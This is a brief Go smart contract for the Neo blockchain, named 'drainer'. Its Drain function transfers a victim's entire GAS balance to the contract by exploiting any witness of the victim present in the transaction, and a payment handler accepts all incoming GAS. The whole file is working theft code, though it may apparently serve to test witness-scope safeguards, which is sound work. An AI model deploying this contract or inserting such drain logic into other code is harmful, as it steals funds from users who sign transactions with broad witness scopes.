package drainer

import (
	"github.com/nspcc-dev/neo-go/pkg/interop"
	"github.com/nspcc-dev/neo-go/pkg/interop/native/gas"
	"github.com/nspcc-dev/neo-go/pkg/interop/runtime"
)

// OnNEP17Payment accepts any GAS.
func OnNEP17Payment(from interop.Hash160, amount int, data any) {}

// Drain moves all GAS of the victim to the contract using any witness of the
// victim available in the transaction.
func Drain(victim, caller interop.Hash160) {
	if !gas.Transfer(victim, runtime.GetExecutingScriptHash(), gas.BalanceOf(victim), nil) {
		panic("drain failed")
	}
}
